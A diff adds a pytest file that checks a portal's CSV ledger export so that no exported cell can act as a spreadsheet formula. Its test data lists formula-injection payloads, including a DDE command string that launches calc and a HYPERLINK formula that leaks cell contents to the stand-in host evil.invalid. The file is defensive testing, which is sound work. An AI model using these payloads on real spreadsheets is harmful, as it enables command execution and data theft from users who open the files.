@@ -1,0 +1,81 @@
+"""A spreadsheet takes a cell that starts with one of six characters for a formula: none does.
+
+The rows are written past the portal's own checks, as another program with the database, or a
+later origin or outcome, could.
+"""
+
+import csv
+import io
+from typing import Final
+
+import pytest
+
+from portal.storage import ledger, open_engine
+from tests.conftest import PortalFactory
+from tests.fakes.in_process import InProcessPortal
+from tests.hostile.strings import STRINGS
+
+FORMULA: Final = ("=", "+", "-", "@", "\t", "\r")
+_CALLS: Final = (
+    "cmd|' /C calc'!A0",
+    '1+HYPERLINK("//evil.invalid/"&A1)',
+    "SUM(1,2)",
+    "",
+    "1\n=1+1",
+    "1\r=1+1",
+    'x"\n"=1+1',
+    "x,=1+1",
+    "'=1",
+)
+HOSTILE: Final = (
+    *(start + call for start in FORMULA for call in _CALLS),
+    *("x\r=1+1", "x\n=1+1", "x\r\n=1+1", 'x"\r"=1+1'),
+    *STRINGS,
+)
+TEXTS: Final = ("operation", "origin", "caller", "outcome")
+
+
+@pytest.fixture
+def filled(portal: PortalFactory) -> InProcessPortal:
+    """A ledger where every text of every row is hostile."""
+    here = portal()
+    engine = open_engine(None, here.settings.data_dir)
+    values = {"sent_at": 1_790_000_000.0, "day": "2026-09-21", "subject": "", "price": "0.30"}
+    with engine.begin() as db:
+        for text in HOSTILE:
+            db.execute(ledger.insert().values(**values, **dict.fromkeys(TEXTS, text)))
+    engine.dispose()
+    return here
+
+
+def printed(portal: InProcessPortal, *words: str) -> list[list[str]]:
+    done = portal.app.test_cli_runner().invoke(args=["ledger", "--csv", *words])
+    assert done.exit_code == 0
+    # Not .output: click reads a carriage return and a line feed as one there.
+    return list(csv.reader(io.StringIO(done.stdout_bytes.decode(), newline="")))
+
+
+def formula_cells(table: list[list[str]]) -> list[str]:
+    return [cell for line in table for cell in line if cell.startswith(FORMULA)]
+
+
+def as_told(text: str) -> str:
+    """A cell of one line, with an apostrophe where it would be a formula."""
+    one_line = text.replace("\r", " ").replace("\n", " ")
+    return "'" + one_line if text.startswith(FORMULA) else one_line
+
+
+def test_no_cell_of_the_ledger_is_a_formula_and_no_text_is_lost(filled: InProcessPortal) -> None:
+    header, *rows = printed(filled)
+    assert formula_cells([header, *rows]) == []
+    where = [header.index(name) for name in TEXTS]
+    assert [[row[column] for column in where] for row in rows] == [
+        [as_told(text)] * len(TEXTS) for text in HOSTILE
+    ]
+
+
+def test_no_cell_of_the_summary_is_a_formula(filled: InProcessPortal) -> None:
+    table = printed(filled, "--summary")
+    assert formula_cells(table) == []
+    assert {line[0] for line in table[1:-1]} == set(map(as_told, HOSTILE))
+    assert table[-1][:2] == ["all", str(len(HOSTILE))]
